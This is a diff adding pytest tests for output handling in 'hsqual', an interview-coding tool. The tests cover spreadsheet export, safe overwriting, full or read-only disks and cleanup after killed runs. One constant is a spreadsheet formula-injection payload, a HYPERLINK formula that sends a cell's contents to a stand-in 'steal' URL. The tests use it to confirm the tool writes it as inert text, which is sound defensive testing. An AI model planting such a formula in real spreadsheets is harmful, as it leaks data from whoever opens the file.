@@ -263,3 +263,266 @@ def test_near_and_seq_find_the_pairs_the_definition_finds(seed):
         node = parse_rule(rule, language="en").root
         assert isinstance(node, Near)
         assert _near_pairs(node, U, 0) == _pairs_by_definition(node, U, 0), (rule, text)
+
+
+# -- outputs: spreadsheets, overwriting, full and read-only disks, killed runs ----------------
+
+import errno  # noqa: E402
+import os  # noqa: E402
+import warnings  # noqa: E402
+
+import openpyxl  # noqa: E402
+import pandas as pd  # noqa: E402
+
+from hsqual.cli import main  # noqa: E402
+from hsqual.codings import codings_frame, read_codings, write_codings  # noqa: E402
+from hsqual.errors import OutputError  # noqa: E402
+from hsqual.export import write_workbook  # noqa: E402
+from hsqual.resources import bundled_path  # noqa: E402
+from hsqual.writers import (FORMULA_STARTS, atomic_write, clean_stale_temporaries, file_state,  # noqa: E402
+                            staged_folder, write_table)
+
+HYPERLINK = '=HYPERLINK("http://example.invalid/steal?d="&A1,"freedom from fear")'
+CODEBOOK = str(bundled_path("codebooks") / "three_freedoms.yaml")
+PERSON = "doc_id,segment_id,code,start,end,quote,coder\nint01,1,freedoms.fear,0,4,fear,tanaka\n"
+
+
+def _transcript(tmp_path, body=f"Interviewee 4: {HYPERLINK}\n\nInterviewee 4: Freedom from fear matters.\n"):
+    p = tmp_path / "int01.md"
+    p.write_text("---\nid: int01\nlanguage: en\n---\n" + body, encoding="utf-8")
+    return p
+
+
+def _cells(path, sheet=None):
+    wb = openpyxl.load_workbook(path)
+    ws = wb[sheet] if sheet else wb.worksheets[0]
+    return [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
+
+
+@pytest.mark.parametrize("text", [HYPERLINK, "+1 555 0100", "-5 degrees", "@SUM(A1)", "\tTab", "\rCR", "=1+1"])
+def test_xlsx_cells_are_text_never_formulas(tmp_path, text):
+    assert text.startswith(FORMULA_STARTS)
+    df = pd.DataFrame({"quote": [text, "plain"]})
+    for p in (write_table(df, tmp_path / "t.xlsx"), write_workbook({"codings": df}, tmp_path / "w.xlsx")):
+        cell = next(c for c in _cells(p) if c.value == text)
+        assert cell.data_type == "s" and cell.quotePrefix  # a string cell, shown and edited as text
+        assert pd.read_excel(p)["quote"].tolist() == [text, "plain"]
+    plain = next(c for c in _cells(tmp_path / "t.xlsx") if c.value == "plain")
+    assert not plain.quotePrefix
+
+
+def test_code_to_xlsx_writes_a_hyperlink_quote_as_text(tmp_path, capsys):
+    out = tmp_path / "codings.xlsx"
+    transcript = _transcript(tmp_path, body=f"{HYPERLINK}\n\nFreedom from fear matters.\n")
+    assert main(["code", "--codebook", CODEBOOK, str(transcript), "--unit", "paragraph", "-o", str(out)]) == 0
+    quotes = [c for c in _cells(out) if c.value == HYPERLINK]
+    assert quotes and all(c.data_type == "s" for c in quotes)  # the quote, not a formula
+    wb = openpyxl.load_workbook(out)
+    assert not any(c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row)
+
+
+def test_csv_keeps_the_text_exactly(tmp_path):
+    df = codings_frame([{"doc_id": "d", "segment_id": 1, "code": "c", "start": 0, "end": len(HYPERLINK),
+                         "quote": HYPERLINK, "coder": "rules"}])
+    assert read_codings(write_codings(df, tmp_path / "c.csv"))["quote"].tolist() == [HYPERLINK]
+
+
+def test_code_with_an_unknown_suffix_fails_before_any_work(tmp_path, capsys, monkeypatch):
+    import hsqual.codebook
+
+    def never(*a, **k):
+        raise AssertionError("the codebooks were read before the output path was checked")
+
+    monkeypatch.setattr(hsqual.codebook, "load_codebooks", never)
+    assert main(["code", "--codebook", CODEBOOK, str(tmp_path / "x.md"), "-o", str(tmp_path / "out.txt")]) == 1
+    err = capsys.readouterr().err
+    assert err == (f"hsqual code: error: {tmp_path / 'out.txt'}: cannot tell the format from the suffix '.txt'; "
+                   "expected .csv, .xlsx or .parquet\n")
+
+
+@pytest.mark.parametrize("where", ["under a file", "folder as output"])
+def test_code_to_a_place_that_cannot_be_written_fails_at_once(tmp_path, capsys, where):
+    (tmp_path / "notes.txt").write_text("x")
+    out = tmp_path / "notes.txt" / "codings.csv" if where == "under a file" else tmp_path / "codings.csv"
+    if where == "folder as output":
+        out.mkdir()
+    assert main(["code", "--codebook", CODEBOOK, str(tmp_path / "missing.md"), "-o", str(out)]) == 1
+    err = capsys.readouterr().err
+    assert err.startswith(f"hsqual code: error: {out}: ") and err.count("\n") == 1
+    assert "is a file, not a folder" in err if where == "under a file" else "is a folder" in err
+
+
+@pytest.mark.parametrize("before", ["absent", "machine codings"])
+def test_code_never_replaces_a_file_a_person_saved_during_the_run(tmp_path, capsys, monkeypatch, before):
+    import hsqual.apply
+
+    out = tmp_path / "codings.csv"
+    if before == "machine codings":
+        out.write_text("doc_id,segment_id,code,start,end,quote,coder\nint01,1,freedoms.fear,0,4,fear,rules\n")
+    real = hsqual.apply.apply_codebook
+
+    def coding_while_a_person_saves(*a, **k):
+        result = real(*a, **k)
+        out.write_text(PERSON)  # the person saves their work at -o while the rules run
+        return result
+
+    monkeypatch.setattr(hsqual.apply, "apply_codebook", coding_while_a_person_saves)
+    assert main(["code", "--codebook", CODEBOOK, str(_transcript(tmp_path)), "-o", str(out)]) == 1
+    assert out.read_text() == PERSON
+    err = capsys.readouterr().err
+    assert err.startswith(f"hsqual code: error: {out}: ") and "while hsqual was working" in err
+    assert sorted(os.listdir(tmp_path)) == ["codings.csv", "int01.md"]  # no temporary file left
+
+
+def test_code_replaces_its_own_machine_codings(tmp_path, capsys):
+    out = tmp_path / "codings.csv"
+    args = ["code", "--codebook", CODEBOOK, str(_transcript(tmp_path)), "-o", str(out)]
+    assert main(args) == 0 and main(args) == 0
+    assert set(read_codings(out)["coder"]) == {"rules"}
+
+
+def test_atomic_write_exclusive_and_state_checks(tmp_path):
+    target = tmp_path / "t.csv"
+    state = file_state(target)
+    with pytest.raises(OutputError, match="a file appeared there while hsqual was working") as err:
+        with atomic_write(target, replace=state) as fh:
+            fh.write("machine")
+            target.write_text("person")
+    assert target.read_text() == "person" and err.value.path == str(target)
+    state = file_state(target)
+    with pytest.raises(OutputError, match="the file changed while hsqual was working"):
+        with atomic_write(target, replace=state) as fh:
+            fh.write("machine")
+            time_ns = os.stat(target).st_mtime_ns
+            target.write_text("person, edited")
+            os.utime(target, ns=(time_ns + 10**9, time_ns + 10**9))
+    assert target.read_text() == "person, edited"
+    assert os.listdir(tmp_path) == ["t.csv"]
+
+
+def _enospc(monkeypatch):
+    def disk_full(fd):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(os, "fsync", disk_full)
+
+
+def test_full_disk_during_code_is_one_line_naming_the_file(tmp_path, capsys, monkeypatch):
+    out = tmp_path / "codings.csv"
+    _enospc(monkeypatch)
+    assert main(["code", "--codebook", CODEBOOK, str(_transcript(tmp_path)), "-o", str(out)]) == 1
+    err = capsys.readouterr().err
+    assert err == (f"hsqual code: error: {out}: cannot write the file: No space left on device "
+                   "(the disk is full: free some space and run again)\n")
+    assert sorted(os.listdir(tmp_path)) == ["int01.md"]
+
+
+def test_read_only_folder_is_one_line_naming_the_file(tmp_path, capsys, monkeypatch):
+    real_open = os.open
+    ro = tmp_path / "readonly"
+    ro.mkdir()
+
+    def read_only(path, *a, **k):  # root writes through chmod 0555, so the disk's answer is injected
+        if str(path).startswith(str(ro)):
+            raise OSError(errno.EROFS, "Read-only file system", str(path))
+        return real_open(path, *a, **k)
+
+    monkeypatch.setattr(os, "open", read_only)
+    out = ro / "codings.csv"
+    assert main(["code", "--codebook", CODEBOOK, str(_transcript(tmp_path)), "-o", str(out)]) == 1
+    err = capsys.readouterr().err
+    assert err == (f"hsqual code: error: {out}: cannot write in the folder {ro}: Read-only file system "
+                   "(choose a folder you can write to)\n")
+    with pytest.raises(OutputError, match="Read-only file system") as e:
+        write_table(pd.DataFrame({"a": [1]}), out)
+    assert e.value.path == str(out) and isinstance(e.value, OSError)
+
+
+def test_import_leaves_no_half_written_folder(tmp_path, capsys, monkeypatch):
+    import hsqual.codings
+    from malicious.crafted import foreign_qdpx
+
+    text = "Interviewer: Why?\nInterviewee: Dignity matters.\n"
+    s = text.index("Dignity")
+    src = tmp_path / "p.qdpx"
+    src.write_bytes(foreign_qdpx(text, [(s, s + 7, "Dignity")]))
+    out = tmp_path / "imported"
+    real = hsqual.codings.write_codings
+
+    def full_disk_at_the_codings(codings, path, **k):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(hsqual.codings, "write_codings", full_disk_at_the_codings)
+    assert main(["import", str(src), "--out", str(out)]) == 1
+    err = capsys.readouterr().err
+    assert err.startswith(f"hsqual import: error: {out}: ") and "No space left on device" in err
+    assert sorted(os.listdir(tmp_path)) == ["p.qdpx"]  # neither imported/ nor a staging folder
+    monkeypatch.setattr(hsqual.codings, "write_codings", real)
+    assert main(["import", str(src), "--out", str(out)]) == 0  # the rerun is not refused
+    assert sorted(p.name for p in out.iterdir()) == ["codebooks", "codings.csv", "transcripts"]
+
+
+def test_import_never_replaces_a_file_that_appeared_meanwhile(tmp_path, capsys, monkeypatch):
+    import hsqual.codings
+    from malicious.crafted import foreign_qdpx
+
+    text = "Interviewer: Why?\nInterviewee: Dignity matters.\n"
+    src = tmp_path / "p.qdpx"
+    src.write_bytes(foreign_qdpx(text, []))
+    out = tmp_path / "imported"
+    out.mkdir()
+    real = hsqual.codings.write_codings
+
+    def person_saves_meanwhile(codings, path, **k):
+        (out / "codings.csv").write_text(PERSON)
+        return real(codings, path, **k)
+
+    monkeypatch.setattr(hsqual.codings, "write_codings", person_saves_meanwhile)
+    assert main(["import", str(src), "--out", str(out)]) == 1
+    assert (out / "codings.csv").read_text() == PERSON
+    assert sorted(p.name for p in out.iterdir()) == ["codings.csv"]  # nothing else moved in either
+    assert "while hsqual was working" in capsys.readouterr().err
+
+
+def test_reproduce_leaves_no_half_written_folder(tmp_path, capsys, monkeypatch):
+    import hsqual.writers
+
+    def full_disk(*a, **k):
+        raise OSError(errno.ENOSPC, "No space left on device")
+
+    monkeypatch.setattr(hsqual.writers, "write_text", full_disk)  # summary.md, written last
+    out = tmp_path / "study"
+    assert main(["reproduce", "kurusu2015", "--out", str(out), "--no-figures"]) == 1
+    err = capsys.readouterr().err
+    assert err.startswith(f"hsqual reproduce: error: {out}: ") and err.count("\n") == 1
+    assert os.listdir(tmp_path) == []
+
+
+def test_stale_temporaries_of_a_killed_run_are_removed_and_reported(tmp_path):
+    target = tmp_path / "codings.csv"
+    dead = tmp_path / ".codings.csv.hsqual-999999999-dead.tmp"  # no such process
+    dead.write_text("half a table")
+    dead_dir = tmp_path / ".codings.csv.hsqual-999999998-dead.tmp"
+    dead_dir.mkdir()
+    live = tmp_path / f".codings.csv.hsqual-{os.getppid()}-live.tmp"  # a running process's
+    live.write_text("being written")
+    other = tmp_path / ".notes.txt.hsqual-999999999-dead.tmp"  # another target's: left alone
+    other.write_text("x")
+    with pytest.warns(UserWarning, match=r"removed 2 unfinished temporary file\(s\) of an interrupted run: ") as rec:
+        write_table(pd.DataFrame({"a": [1]}), target)
+    assert str(dead) in str(rec[0].message) and str(dead_dir) in str(rec[0].message)
+    assert sorted(os.listdir(tmp_path)) == sorted([live.name, other.name, "codings.csv"])
+    with warnings.catch_warnings():
+        warnings.simplefilter("error")
+        assert clean_stale_temporaries(target) == []
+
+
+def test_staged_folder_of_a_killed_run_is_removed_on_the_next(tmp_path):
+    out = tmp_path / "imported"
+    stale = tmp_path / ".imported.hsqual-999999999-dead.tmp"
+    (stale / "transcripts").mkdir(parents=True)
+    (stale / "transcripts" / "int01.md").write_text("half")
+    with pytest.warns(UserWarning, match="interrupted run"):
+        with staged_folder(out) as work:
+            (work / "codings.csv").write_text("doc_id")
+    assert sorted(os.listdir(tmp_path)) == ["imported"]
